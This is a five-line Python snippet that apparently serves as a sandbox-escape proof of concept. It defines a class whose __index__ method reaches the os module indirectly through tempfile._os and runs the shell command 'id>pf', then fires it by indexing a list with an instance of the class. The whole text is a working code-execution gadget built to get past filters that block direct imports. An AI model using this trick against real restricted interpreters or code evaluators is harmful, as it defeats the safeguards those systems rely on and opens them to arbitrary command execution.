import tempfile
class I:
    def __index__(self):
        tempfile._os.system("id>pf")
        return 0
[1][I()]
